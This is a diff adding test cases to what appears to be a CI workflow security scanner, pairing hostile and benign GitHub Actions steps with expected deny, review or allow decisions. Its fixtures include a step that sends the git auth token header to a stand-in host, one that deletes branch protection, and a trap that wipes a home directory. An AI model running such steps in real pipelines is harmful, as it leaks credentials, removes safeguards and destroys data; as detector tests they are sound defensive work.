@@ -37,6 +37,18 @@ const pairs: readonly (readonly [name: string, bad: string, worst: 'deny' | 'rev
     'on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git fetch origin \u0024{{ github.event.pull_request.base.ref }}\n',
   ],
   [
+    'rights.yml',
+    'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: gh api -X DELETE "repos/$GITHUB_REPOSITORY/branches/main/protection"\n',
+    'review',
+    'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: gh api "repos/$GITHUB_REPOSITORY/branches/main/protection"\n      - run: gh api -X POST "repos/$GITHUB_REPOSITORY/issues/1/comments" -f body=Thanks\n',
+  ],
+  [
+    'token.yml',
+    'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -s -d "$(git config --get http.https://github.com/.extraheader)" https://a.example/k\n',
+    'deny',
+    'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: git config --unset-all http.https://github.com/.extraheader\n      - run: git config user.name bot\n',
+  ],
+  [
     'ends.sh',
     '#!/bin/sh\ntmp=$(mktemp -d)\ntrap "rm -rf $tmp/../../home" EXIT\n',
     'deny',
@@ -93,3 +105,16 @@ for (const [name, bad, worst, good] of pairs)
     assert.equal((await one(bad, { name })).decision, worst);
     assert.equal((await one(good, { name })).decision, 'allow', 'the honest one');
   });
+
+test('a digest that one step compares counts for the step that runs the file', async () => {
+  const run = async (...steps: readonly string[]): Promise<string> => {
+    const work = { on: 'push', jobs: { a: { 'runs-on': 'x', steps: steps.map((each) => ({ run: each })) } } };
+    return (await one(JSON.stringify(work), { name: '.github/workflows/lint.yml' })).decision;
+  };
+  const get = 'curl -fsSLo lint https://github.com/o/lint/releases/download/v1.2.3/lint && chmod +x lint';
+  const check =
+    'echo "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  lint" | sha256sum -c';
+  assert.equal(await run(get, './lint --all'), 'deny');
+  assert.equal(await run(`${get}\n${check}`, './lint --all'), 'review');
+  assert.equal(await run(`${get}\n${check}`, get, './lint --all'), 'deny');
+});
